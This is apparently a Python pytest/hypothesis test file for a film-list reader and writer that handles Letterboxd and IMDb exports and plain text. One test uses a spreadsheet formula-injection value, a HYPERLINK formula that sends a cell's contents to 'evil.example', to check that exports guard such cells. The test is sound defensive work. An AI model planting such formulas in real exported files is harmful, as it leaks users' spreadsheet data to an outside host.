"""Lists of films as they come: Letterboxd's, IMDb's, other tables, and text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from matinee.lists import FilmList, ListedFilm, ListError, ListForm, read_list, write_list

LETTERBOXD = """Letterboxd list export v7
Date,Name,Tags,URL,Description
2024-05-01,Rain,"wet, grey",https://boxd.it/a,Films in which it rains.

Position,Name,Year,URL,Description
2,Rashomon,1950,https://boxd.it/c,"Under a gate, talking"
1,Seven Samurai,1954,https://boxd.it/b,
"""
IMDB = """Position,Const,Created,Modified,Description,Title,URL,Title Type,Year,Directors
1,tt0047478,2024-05-01,2024-05-01,The long one,Seven Samurai,,Movie,1954,Akira Kurosawa
"""
TEXT = """# Rain

1. Seven Samurai (1954) – the long one
2) Rashomon [1950]
- https://www.imdb.com/title/tt0042876/
* Stalker, dir. Andrei Tarkovsky

Stand by Me
10 Things I Hate About You (1999): a title with a number
"""


def _read(text: str) -> FilmList:
    return read_list(text.encode(), "list")


def test_reads_letterboxds_list_in_its_order() -> None:
    """By position, with the notes, the title and what is said of the list."""
    read = _read(LETTERBOXD)
    assert (read.title, read.about) == ("Rain", "Films in which it rains.")
    assert [(film.title, film.film.year, film.text) for film in read.films] == [
        ("Seven Samurai", 1954, ""),
        ("Rashomon", 1950, "Under a gate, talking"),
    ]


def test_reads_imdbs_list() -> None:
    """With identifiers and the descriptions as notes."""
    (film,) = _read(IMDB).films
    assert (film.film.imdb_id, film.film.year, film.text) == ("tt0047478", 1954, "The long one")


def test_reads_text_a_line_a_film() -> None:
    """Numbers, bullets, years in brackets, notes, identifiers and directors are understood."""
    read = _read(TEXT)
    assert read.title == "Rain"
    assert [
        (f.film.titles[0], f.film.year, f.film.imdb_id, f.film.directors, f.text)
        for f in read.films
    ] == [
        ("Seven Samurai", 1954, "", (), "the long one"),
        ("Rashomon", 1950, "", (), ""),
        ("tt0042876", None, "tt0042876", (), ""),
        ("Stalker", None, "", ("Andrei Tarkovsky",), ""),
        ("Stand by Me", None, "", (), ""),
        ("10 Things I Hate About You", 1999, "", (), "a title with a number"),
    ]


def test_reads_another_table_by_its_columns() -> None:
    """A table with a column of titles is a list."""
    (film,) = _read("Film;Jahr\nStalker;1979\n").films
    assert (film.title, film.film.year) == ("Stalker", 1979)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "no film in it"),
        (b"\n\n# only a heading\n", "no film in it"),
        (b"PK\x03\x04 packed", "unpack"),
        (b"a\n" * 3_000_000, "MB"),
        (b"Film (1999)\n" * 6_000, "more than 5,000"),
        (b"\0\0\0\0", "list"),
    ],
)
def test_refuses_what_is_no_list(data: bytes, why: str) -> None:
    """One line says what was wrong and what can be read."""
    with pytest.raises(ListError, match=why):
        read_list(data, "list")


def test_keeps_formulas_from_running_and_gives_them_back() -> None:
    """A title or note that a spreadsheet would run is written guarded, and read as it was."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Film")'
    films = [ListedFilm(evil, 1999, note="@SUM(1)"), ListedFilm("-30-", 1959)]
    for form in (ListForm.LETTERBOXD, ListForm.IMDB):
        text = write_list(films, form, of=FilmList("+1"))
        cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(",")]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    text = write_list(films, ListForm.LETTERBOXD, of=FilmList("+1"))
    read = _read(text)
    assert (read.title, [film.title for film in read.films]) == ("+1", [evil, "-30-"])
    assert read.films[0].text == "@SUM(1)"


_words = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp", "Cf")), max_size=30
).map(lambda text: " ".join(text.split()))


@given(st.lists(st.tuples(_words.filter(bool), st.integers(1900, 2026), _words), min_size=1))
def test_what_is_written_for_letterboxd_is_read_the_same(
    films: list[tuple[str, int, str]],
) -> None:
    """Titles, years and notes come back as they were, whatever letters they have."""
    listed = [ListedFilm(title, year, note=note) for title, year, note in films]
    read = _read(write_list(listed, ListForm.LETTERBOXD, of=FilmList("A list")))
    assert [(f.title, f.film.year, f.text) for f in read.films] == films


@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_reads_anything_or_refuses(data: bytes) -> None:
    """Nothing that is given as a list breaks the reader."""
    try:
        read = read_list(data, "list")
    except ListError:
        return
    assert read.films
